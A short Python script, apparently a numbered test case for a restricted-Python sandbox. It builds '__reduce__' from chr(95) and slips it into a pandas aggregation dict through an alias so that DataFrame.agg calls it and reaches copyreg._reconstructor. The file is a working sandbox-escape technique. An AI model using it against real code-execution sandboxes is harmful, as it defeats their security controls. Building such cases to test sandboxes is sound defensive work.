# source: pandas string dispatch (Series.agg("name") -> getattr(obj, name)(); pandas.core.apply) + asteval __reduce__ escape (https://github.com/lmfit/asteval/issues/86); 12i/005 adapted: the literal dict is changed through an alias name instead of a column loop
# family: run-time name into pandas string dispatch: a dict of literal aggregations "never changed" at top level is mutated through an alias (ALIAS = HOW; ALIAS[key] = computed name) and then passed to DataFrame.agg
# goal: __reduce__ called by computed name -> copyreg._reconstructor (function of a module the sandbox never allowed) and the object's full state
import pandas as pd

u = chr(95) * 2
prices = pd.DataFrame({"close": [1.0, 2.0]})


HOW = {"close": "sum"}
ALIAS = HOW
ALIAS["close"] = u + "reduce" + u
out = prices.agg(HOW)
fn = out["close"][0]
print("reached:", repr(fn), "(copyreg._reconstructor)")
print("reduce tuple args:", out["close"][1])
try:
    fn(prices, prices, None)
except Exception as e:
    print("copyreg code ran:", repr(e))
